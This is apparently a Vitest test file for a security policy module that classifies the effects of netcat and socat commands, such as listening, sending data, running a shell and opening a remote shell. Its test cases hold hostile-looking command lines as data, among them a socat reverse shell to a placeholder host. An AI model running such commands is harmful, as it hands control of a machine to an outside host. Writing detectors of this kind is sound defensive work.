import { expect, test } from "vitest";
import { acts, prints, reads, shell, writes } from "../../../../../src/core/policy/tools/effect.ts";
import { netcatConnects, netcatListens, socat } from "../../../../../src/core/policy/tools/network/netcat.ts";
import { DOWNLOAD, OUTPUT } from "../../../../../src/core/policy/values/abstract-text.ts";
import { callOf } from "../../../../support/tool-call.ts";

const LISTENS = acts("listen");

test.each(["nc -l -p 80", "nc -l 0.0.0.0 80", "nc -l -s 0.0.0.0 80"])("%s lets other machines in", (line) => {
  expect(netcatListens(callOf(line))).toEqual([LISTENS, prints(DOWNLOAD)]);
});

test.each(["nc -l 127.0.0.1 80", "nc -l -s localhost 80"])("%s does not", (line) => {
  expect(netcatListens(callOf(line))).toEqual([prints(OUTPUT)]);
});

test.each([
  ["nc a.example 80", [{ kind: "sends", to: "a.example", data: "in" }, prints(DOWNLOAD)]],
  ["nc -w 1 localhost 80", [{ kind: "sends", to: "localhost", data: "in" }, prints(OUTPUT)]],
  ["nc -z a.example 80", [{ kind: "fetches", from: "a.example" }]],
  ["nc", []],
])("%s", (line, effects) => {
  expect(netcatConnects(callOf(line, "in"))).toEqual(effects);
});

test.each([
  ["socat - TCP:a.example:80", [{ kind: "sends", to: "a.example", data: "in" }, prints(DOWNLOAD)]],
  ["socat TCP-LISTEN:80 -", [LISTENS, prints(DOWNLOAD)]],
  ["socat TCP-LISTEN:80,bind=127.0.0.1 -", [prints(DOWNLOAD)]],
  ["socat EXEC:ls -", [shell("ls"), prints(DOWNLOAD)]],
  ["socat FILE:a -", [reads("a"), writes("a"), prints(DOWNLOAD)]],
  [
    "socat TCP:a.example:80 EXEC:sh,pty",
    [{ kind: "sends", to: "a.example", data: "in" }, shell("sh"), acts("remote-shell"), prints(DOWNLOAD)],
  ],
])("%s", (line, effects) => {
  expect(socat(callOf(line, "in"))).toEqual(effects);
});
